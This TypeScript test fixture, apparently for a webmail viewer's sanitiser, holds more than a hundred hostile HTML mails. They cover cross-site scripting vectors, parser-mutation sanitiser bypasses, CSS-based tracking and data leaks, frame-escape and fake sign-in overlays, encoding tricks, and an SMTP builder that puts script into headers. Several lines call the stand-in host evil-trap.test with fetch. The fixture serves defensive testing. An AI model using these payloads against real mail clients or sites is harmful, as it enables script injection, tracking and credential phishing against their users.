// Html that somebody would send to do harm: to run, to be told of its being read, to leave its frame, to deceive. Written
// from what is known of how sanitisers and mail viewers have been got round.

export type HostileMail = {
  name: string
  html: string | Uint8Array
  /** Of its part, if it is not html in UTF-8. */
  type?: string
  /** Further parts, whole. */
  beside?: string[]
}

/** Whoever asks for anything here was told too much. */
export const trap = 'evil-trap.test'
const at = `https://${trap}`
const run = `top.ran=1;parent.ran=1;alert(1);fetch('${at}/ran')`

/** Names of rows; each is one mail. */
const rows: Record<string, string> = {
  // Scripts, and what runs them.
  script: `<script>${run}</script>`,
  'script from elsewhere': `<script src="${at}/s.js"></script><script type=module src=${at}/m.js></script>`,
  'script in a broken tag': `<scr<script>ipt>${run}</scr</script>ipt><SCRIPT/x>${run}</SCRIPT>`,
  'script without an end': `<script>${run}//`,
  'script behind a slash': `<script/src=${at}/s.js></script>`,
  'img onerror': `<img src=x onerror="${run}"><img/src=x/onerror=${encodeURI(run)}>`,
  'img onerror without quotes': '<img src=1 onerror=top.ran=1>',
  'svg onload': `<svg onload="${run}"><svg/onload=top.ran=1>`,
  'body onload': `<body onload="${run}" onpageshow="${run}" onfocus="${run}" background="${at}/bg.png">`,
  'details ontoggle': `<details open ontoggle="${run}"><summary>x</summary></details>`,
  'autofocus onfocus': `<input autofocus onfocus="${run}"><div tabindex=1 autofocus onfocus="${run}">x</div>`,
  'animation events': `<style>@keyframes k{from{color:red}}</style><b style="animation:k 1s" onanimationstart="${run}">x</b>`,
  'transition events': `<b style="transition:color 1s" ontransitionend="${run}" ontransitionrun="${run}">x</b>`,
  'scroll events': `<div style="overflow:auto;height:9px" onscroll="${run}" onscrollend="${run}">x<br>x<input autofocus></div>`,
  'media events': `<video onloadstart="${run}" onerror="${run}" src=${at}/v.mp4 poster=${at}/p.png autoplay></video><audio src=${at}/a onerror="${run}" autoplay></audio>`,
  'marquee events': `<marquee onstart="${run}" onbounce="${run}" loop=1>x</marquee>`,
  'pointer events': `<div style="position:fixed;inset:0" onpointerover="${run}" onmouseover="${run}" onwheel="${run}">x</div>`,
  'content-visibility event': `<div style="content-visibility:auto" oncontentvisibilityautostatechange="${run}">x</div>`,
  'popover events': `<button popovertarget=p autofocus>x</button><div popover id=p onbeforetoggle="${run}" ontoggle="${run}">x</div>`,
  // Addresses that run.
  'javascript link': `<a href="javascript:${run}" autofocus>x</a><a href=" java\nscript:${run}">y</a><a href="&#106;avascript&colon;${run}">z</a>`,
  'javascript with controls': `<a href="\x01javascript:${run}">x</a><a href="java\tscript:${run}">y</a><a href="javascript&#x0A;:${run}">z</a>`,
  'vbscript and data links': `<a href="vbscript:msgbox(1)">x</a><a href="data:text/html,<script>${run}</script>">y</a>`,
  'xlink javascript': `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a><a href="javascript:${run}"><rect width=9 height=9 /></a></svg>`,
  'math javascript': `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">x</maction><mi href="javascript:${run}">y</mi></math>`,
  'iframe javascript': `<iframe src="javascript:${run}"></iframe><iframe src="${at}/f"></iframe>`,
  srcdoc: `<iframe srcdoc="<script>${run.replaceAll('"', '')}</script><img src=${at}/s>"></iframe>`,
  frameset: `<frameset onload="${run}"><frame src="${at}/f"></frameset>`,
  'object, embed, applet': `<object data="${at}/o.swf" onerror="${run}"></object><embed src="${at}/e" onload="${run}"><applet code=x archive="${at}/a.jar"></applet><object data="data:text/html,<script>${run}</script>"></object>`,
  portal: `<portal src="${at}/p"></portal><fencedframe src="${at}/f"></fencedframe>`,
  'xml islands': `<xml id=i src="${at}/i.xml"></xml><span datasrc=#i datafld=x dataformatas=html></span><?xml-stylesheet href="${at}/x.css"?>`,
  'form action': `<form action="${at}/f" method=post><input name=p type=password autofocus><button>Sign in</button></form>`,
  formaction: `<form id=f></form><button form=f formaction="javascript:${run}" autofocus>x</button><input type=image src=${at}/i.png form=f formaction=${at}/f>`,
  'isindex and keygen': `<isindex action="javascript:${run}" type=image src=${at}/i><keygen autofocus onfocus="${run}">`,
  // What leaves the frame.
  'meta refresh': `<meta http-equiv=refresh content="0;url=${at}/r"><meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  'meta refresh to data': `<meta http-equiv=refresh content="0;url=data:text/html,<script>${run}</script>">`,
  'meta policy and cookie': `<meta http-equiv=Content-Security-Policy content="default-src * 'unsafe-inline'"><meta http-equiv=Set-Cookie content="mayfly=evil"><script>${run}</script>`,
  base: `<base href="${at}/" target=_top><img src=relative.png><a href=relative>x</a>`,
  'base in the middle': `<p>x</p><base href="${at}/"><img src="attachments/0"><link rel=stylesheet href=s.css>`,
  'target top': `<a href="${at}/t" target=_top autofocus>x</a><a href="${at}/p" target=_parent>y</a><a href="/app/keys" target=_top>z</a>`,
  'area with target': `<img src="cid:none" usemap=#m width=99 height=99><map name=m><area href="javascript:${run}" shape=default target=_top></map>`,
  'server-side map': `<a href="${at}/map"><img ismap src="${at}/i.png" width=9 height=9></a>`,
  'link ping': `<a href="https://example.com" ping="${at}/ping" autofocus>x</a>`,
  'download link': `<a href="${at}/d.exe" download=invoice.pdf autofocus>x</a>`,
  'text fragment': `<a href="/#:~:text=secret" target=_self autofocus>x</a><div id=x>secret</div>`,
  'links of hints': [
    'prefetch',
    'preload',
    'modulepreload',
    'stylesheet',
    'icon',
    'manifest',
    'prerender',
    'import',
    'alternate stylesheet',
  ]
    .map((rel) => `<link rel="${rel}" as=image href="${at}/${encodeURIComponent(rel)}">`)
    .join(''),
  'link with imagesrcset': `<link rel=preload as=image imagesrcset="${at}/a 1x, ${at}/b 2x">`,
  'speculation rules': `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at}/s"]}],"prerender":[{"source":"list","urls":["/app/keys"]}]}</script>`,
  'import map': `<script type=importmap>{"imports":{"x":"${at}/x.js"}}</script><script type=module>import 'x'</script>`,
  'report endpoints': `<meta http-equiv=Reporting-Endpoints content='d="${at}/r"'><meta http-equiv=NEL content='{"report_to":"d"}'>`,
  // Pictures and other things that tell of the reading.
  'remote picture': `<img src="${at}/i.png"><img src="//${trap}/j.png"><img src="http://${trap}/k.png">`,
  srcset: `<img srcset="${at}/a 1x, ${at}/b 2x"><picture><source srcset="${at}/c" media="(min-width:1px)"><img src=x></picture><img sizes=1px srcset="${at}/e,${at}/f 3w">`,
  'lazy picture': `<img loading=lazy src="${at}/l.png"><img lowsrc="${at}/low" dynsrc="${at}/dyn" longdesc="${at}/desc">`,
  backgrounds: `<table background="${at}/t"><tr background="${at}/r"><td background="${at}/d">x</table><div background="${at}/v">y</div>`,
  'video and track': `<video poster="${at}/p" controls><source src="${at}/s"><track default src="${at}/t.vtt"></video>`,
  'svg pictures': `<svg><image href="${at}/i"/><image xlink:href="${at}/j"/><use href="${at}/u#x"/><use xlink:href="data:image/svg+xml,<svg id=x><script>${run}</script></svg>#x"/><feImage href="${at}/f"/></svg>`,
  'svg styles': `<svg><style>@import '${at}/i.css';*{fill:url(${at}/f#x)}</style><rect filter="url(${at}/g#x)" mask="url(${at}/m)" width=9 height=9 /></svg>`,
  'svg animate': `<svg><a><animate attributeName=href values="javascript:${run}"/><text y=20>x</text></a><set attributeName=onload to="${run}"/><animate onbegin="${run}" attributeName=x dur=1s /></svg>`,
  'svg foreignObject': `<svg><foreignObject><iframe src="${at}/f"></iframe><body xmlns="http://www.w3.org/1999/xhtml" onload="${run}"/></foreignObject></svg>`,
  'svg as a picture': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run.replaceAll("'", '')}'><image href='${at}/i'/></svg>">`,
  'svg script': `<svg><script href="${at}/s.js"/><script xlink:href="data:,${run}"/><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${run}</handler></svg>`,
  // Styles.
  import: `<style>@import '${at}/a.css';@import url(${at}/b.css);@import "${at}/c.css" layer(x) screen;</style>`,
  'escaped import': `<style>@\\69mport '${at}/a.css';@im\\70 ort url(${at}/b);@import/**/'${at}/c';</style>`,
  'url in all places': `<style>*{background:url(${at}/1);list-style:url('${at}/2');cursor:url("${at}/3"),auto;border-image:url(${at}/4) 1;mask:url(${at}/5);filter:url(${at}/6#x);clip-path:url(${at}/7#x);shape-outside:url(${at}/8);offset-path:url(${at}/9)}li::marker{content:url(${at}/10)}p::before{content:url(${at}/11)}</style><ul><li>x</ul><p>y`,
  'escaped url': `<style>p{background:\\75\\72\\6c(${at}/1)}b{background:u\\rl(${at}/2)}i{background:url\\28${at}/3)}</style><p>x<b>y</b><i>z</i>`,
  'url without an end': `<style>p{background:url(${at}/1</style><p style="background:url('${at}/2">x`,
  'image functions': `<style>p{background:image-set('${at}/1' 1x,url(${at}/2) 2x);background:-webkit-image-set('${at}/3' 1x)}b{background:image('${at}/4')}i{background:cross-fade(url(${at}/5),url(${at}/6),50%)}u{background:src('${at}/7')}</style><p>x<b>y</b><i>z</i><u>w</u>`,
  'variables with url': `<style>:root{--u:url(${at}/1)}p{background:var(--u)}b{--v:'${at}/2';background:image-set(var(--v) 1x)}</style><p>x<b>y</b>`,
  'attr with url': `<style>p{background:image-set(attr(data-u type(<url>)))}b{background:url(attr(title))}</style><p data-u="${at}/1">x<b title="${at}/2">y</b>`,
  fonts: `<style>@font-face{font-family:f;src:url(${at}/f.woff2),local(x);unicode-range:U+41}p{font-family:f}</style><p>A`,
  'reading what is typed': `<style>input[value^=a]{background:url(${at}/a)}a[href*=token]{background:url(${at}/t)}</style><input value=abc><a href="https://x.test/?token">x</a>`,
  'scroll to text': `<style>:target::before{content:url(${at}/t)}::target-text{background:url(${at}/u)}</style><p id=x>secret`,
  'namespace and charset': `<style>@charset "utf-7";@namespace svg url(${at}/ns);@namespace "${at}";svg|a{color:red}</style>`,
  'view transition': `<style>@view-transition{navigation:auto}::view-transition{background:url(${at}/v)}::view-transition-group(root){position:fixed}</style>`,
  'property and container': `<style>@property --x{syntax:'<url>';inherits:true;initial-value:url(${at}/p)}@container style(--x:1){p{background:url(${at}/c)}}@supports(background:url(${at}/s)){p{background:url(${at}/d)}}</style><p>x`,
  'expression and binding': `<style>p{width:expression(${run});-moz-binding:url(${at}/b.xml#x);behavior:url(${at}/b.htc)}</style><p>x`,
  'style that ends': `<style>p{}</style ><img src=x onerror="${run}"><style><!--</style><img src="${at}/1"><!----></style>`,
  'style in an attribute': `<p style="background:url(${at}/1);background-image:url(&quot;${at}/2&quot;);b:&quot;;}*{background:url(${at}/3)}">x`,
  'covering the page': `<div style="position:fixed;inset:-9999px;z-index:2147483647;background:red;width:9999vw;height:9999vh">You are signed out</div>`,
  'sticky and absolute cover': `<style>html,body{position:fixed!important;inset:0;width:100vw;height:100vh;transform:scale(99);zoom:99}</style><div style="position:sticky;top:-9999px;margin:-9999px">x</div>`,
  'dialog and popover': `<dialog open style="position:fixed;inset:0;width:100vw;height:100vh">Sign in again</dialog><div popover=manual id=p style="inset:0">x</div><button popovertarget=p popovertargetaction=show autofocus>x</button>`,
  'fullscreen and picture in picture': `<video autoplay controls src="${at}/v" allowfullscreen></video><iframe allowfullscreen allow="fullscreen;camera" src="${at}/f"></iframe>`,
  'content that lies': `<style>body::before{content:"Mayfly: your session is over. Sign in at evil-trap.test"}a::after{content:"https://bank.example"}</style><a href="${at}/x"></a>`,
  'bidi text': '<p>\u202etxet desrever\u202c \u2066isolate <a href="https://example.com">moc.elpmaxe\u202e</a></p>',
  // What is read one way by a sanitiser and another by a browser.
  'mutation by style in svg': `<svg></p><style><a id="</style><img src=1 onerror=top.ran=1>">`,
  'mutation by mglyph': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.ran=1>`,
  'mutation by math and table': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.ran=1&gt;">`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror=top.ran=1>"></noscript>`,
  'mutation by template': `<template><svg><style></template><img src=x onerror=top.ran=1></style></svg>`,
  'declarative shadow root': `<div><template shadowrootmode=open><script>${run}</script><img src="${at}/shadow" onerror="${run}"><style>:host{background:url(${at}/host)}</style></template></div>`,
  'mutation by select': `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=top.ran=1>">`,
  'mutation by plaintext': `<plaintext><script>${run}</script>`,
  'mutation by xmp and noembed': `<xmp><p title="</xmp><img src=x onerror=top.ran=1>"></xmp><noembed><img title="</noembed><svg onload=top.ran=1>"></noembed><noframes><a title="</noframes><img src=x onerror=top.ran=1>">`,
  'mutation by textarea and title': `<textarea><img title="</textarea><img src=x onerror=top.ran=1>"></textarea><title><a title="</title><img src=x onerror=top.ran=1>"></title>`,
  'mutation by annotation-xml': `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=top.ran=1>"></style></annotation-xml></math>`,
  'mutation by desc': `<svg><desc><svg><title><style><!--</style><img title="--><img src=x onerror=top.ran=1>"></desc></svg>`,
  'comment confusion': `<!--><img src=x onerror=top.ran=1>--><!--[if true]><script>${run}</script><![endif]--><!---><img src=x onerror=top.ran=1>-->`,
  'comment with an exclamation mark': `<!-- --!><img src=x onerror=top.ran=1> --><!-- <!-- --><script>${run}</script>`,
  'CDATA confusion': `<svg><![CDATA[><img src=x onerror=top.ran=1>]]></svg><![CDATA[<img src=x onerror=top.ran=1>]]>`,
  'processing instruction': `<?xml version="1.0"?><?php <img src=x onerror=top.ran=1>?><!DOCTYPE x [<!ENTITY e "<script>${run}</script>">]>&e;`,
  'broken attributes': `<img """><script>${run}</script>"><img src='x'onerror=top.ran=1><img src=x:x\nonerror\n=\ntop.ran=1><a/href="x"onclick="${run}"/autofocus>`,
  'back-quotes': '<img src=`x` onerror=`top.ran=1`><div title="`<img src=x onerror=top.ran=1>`">x</div>',
  'null bytes': `<scr\0ipt>top.ran=1</scr\0ipt><img src=x one\0rror=top.ran=1><a href="java\0script:${run}">x</a>`,
  'form feed and vertical tab': `<img\fsrc=x\fonerror=top.ran=1><img\vsrc=x\vonerror=top.ran=1><svg\x0conload\x0c=top.ran=1>`,
  'entities without an end': `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058top.ran=1">x</a><img src=x onerror="&#116op.ran=1">`,
  'wide characters':
    '＜script＞top.ran=1＜/script＞ʺ onerror=top.ran=1 <ſcript>top.ran=1</ſcript><ımg src=x onerror=top.ran=1>',
  'upper and strange tags': `<ScRiPt >${run}</ScRiPt><x-y onfocus=top.ran=1 tabindex=0 autofocus>x</x-y><a2 onerror=top.ran=1>`,
  clobbering: `<form name=body><input name=parentNode><input name=attributes></form><img name=getElementById><a id=facts href="x:1"></a><a id=facts name=x></a><form id=document><input name=cookie></form><iframe name=top></iframe><input id=localStorage>`,
  prototypes: '<div __proto__="x" constructor="y" toString=z hasOwnProperty=w><a name=__proto__>x</a></div>',
  'huge nesting': `${'<div><b><font color=red>'.repeat(3000)}x<img src=x onerror=top.ran=1>`,
  'huge nesting of tables': `${'<table><tr><td>'.repeat(2000)}<script>${run}</script>`,
  'many attributes': `<img ${Array.from({ length: 5000 }, (_, n) => `a${n}=${n}`).join(' ')} src=x onerror=top.ran=1>`,
  'one long attribute': `<p title="${'x"'.repeat(20_000)}><img src=x onerror=top.ran=1>`,
  'cid of elsewhere': `<img src="cid:../../../mayfly/v1/session"><img src="CID:%2e%2e/%2e%2e/app"><img src="cid:x onerror=top.ran=1"><img src='cid:"onerror="top.ran=1'>`,
  'own paths': `<img src="/mayfly/v1/session"><img src="/mayfly/v1/mailboxes"><link rel=stylesheet href="/assets/x.css"><form action="/mayfly/v1/session" method=post><button autofocus>x</button></form>`,
  'ticket of its own': `<img src="attachments/0"><a href="attachments/0" target=_self>x</a><iframe src="./"></iframe><iframe src="?remote=1"></iframe>`,
  'AMP and scripts of mails': `<html amp4email><script async src="${at}/amp.js"></script><script type="application/ld+json">{"@context":"http://schema.org","@type":"EmailMessage","url":"${at}"}</script>`,
  'outlook conditions': `<!--[if mso]><v:rect fillcolor=x><v:fill src="${at}/v.png"/></v:rect><![endif]--><v:image src="${at}/w.png" xmlns:v="urn:schemas-microsoft-com:vml"/>`,
  'events in closing tags': `</p onclick="${run}"><p></p/onmouseover=top.ran=1></br onload=top.ran=1>`,
  'search and slot': `<slot onslotchange="${run}"><b>x</b></slot><search onfocus=top.ran=1 tabindex=0 autofocus>x</search>`,
  'invoker commands': `<button commandfor=d command=show-modal autofocus>x</button><dialog id=d oncommand="${run}">x</dialog>`,
  'credentials and storage': `<iframe src="/" name=w></iframe><object data="/mayfly/v1/session"></object><embed src="/app/keys">`,
}

/** What leads browsers to resolve names or open connections before anybody asked. */
export const hints: HostileMail = {
  name: 'hints for connections',
  html: `<link rel=dns-prefetch href="//${trap}"><link rel=preconnect href="${at}"><link rel=preconnect href="${at}" crossorigin><meta http-equiv=x-dns-prefetch-control content=on><a href="https://link.${trap}/">x</a>`,
}

const utf7 = `+ADw-script+AD4-top.ran+AD0-1+ADw-/script+AD4-<img src=+ACI-${at}/7+ACI->`
const utf16 = (text: string): Uint8Array => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'))
const picture = (type: string, body: string) =>
  `Content-Type: ${type}; name="a.png"\r\nContent-ID: <a>\r\nContent-Disposition: inline; filename="a.png"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(body).toString('base64')}`

const others: HostileMail[] = [
  { name: 'utf-7', html: utf7, type: 'text/html; charset=utf-7' },
  { name: 'utf-7 unsaid', html: `<meta charset=utf-7>${utf7}`, type: 'text/html' },
  { name: 'utf-16', html: utf16(`<script>${run}</script><img src="${at}/16">`), type: 'text/html; charset=utf-16' },
  { name: 'utf-16 unsaid', html: utf16(`<script>${run}</script>`), type: 'text/html; charset=us-ascii' },
  {
    name: 'iso-2022-jp',
    html: `<img alt="\x1b$B"><img src=x onerror=top.ran=1>\x1b(B"><a title="\x1b(J" href="\x1b$@javascript:${run}">x</a>`,
    type: 'text/html; charset=iso-2022-jp',
  },
  {
    name: 'overlong utf-8',
    html: new Uint8Array([0xc0, 0xbc, ...Buffer.from('script>top.ran=1</script>'), 0xe0, 0x80, 0xbc]),
  },
  {
    name: 'broken shift_jis',
    html: new Uint8Array([...Buffer.from('<img alt="'), 0x81, ...Buffer.from('" src=x onerror=top.ran=1 x="">')]),
    type: 'text/html; charset=shift_jis',
  },
  {
    name: 'html that says it is a picture',
    html: '<img src="cid:a">',
    beside: [picture('image/png', `<script>${run}</script><img src=${at}/p>`)],
  },
  {
    name: 'svg that says it is a picture',
    html: '<img src="cid:a"><embed src="cid:a">',
    beside: [
      picture('image/png', `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${at}/q"/></svg>`),
    ],
  },
  {
    name: 'svg attached',
    html: '<img src="cid:a"><object data="cid:a"></object><iframe src="cid:a"></iframe>',
    beside: [
      picture(
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script><image href="${at}/r"/></svg>`,
      ),
    ],
  },
  {
    name: 'html attached',
    html: '<iframe src="cid:a"></iframe><a href="cid:a" target=_self>x</a>',
    beside: [picture('text/html', `<script>${run}</script>`)],
  },
  {
    name: 'a text with addresses',
    html: `${at}/text <script>${run}</script> javascript:${run} data:text/html,x`,
    type: 'text/plain',
  },
  { name: 'enriched text', html: `<param>${at}/e</param><script>${run}</script>`, type: 'text/enriched' },
  {
    name: 'xhtml',
    html: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${run}</script></html>`,
    type: 'application/xhtml+xml',
  },
]

export const hostileHtml: readonly HostileMail[] = [
  ...Object.entries(rows).map(([name, html]) => ({ name, html })),
  hints,
  ...others,
]

/** The mail as SMTP takes it. */
export function mailWith({ name, html, type = 'text/html; charset=utf-8', beside = [] }: HostileMail): string {
  const body = Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n')
  const parts = [`Content-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}`, ...beside]
  const whole = parts.map((part) => `--b\r\n${part}\r\n`).join('')
  const subject = `${name.replace(/[\r\n]/g, ' ')} <script>top.ran=1</script>`
  return `From: "<img src=x onerror=top.ran=1>" <a@sender.test>\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n${whole}--b--\r\n`
}
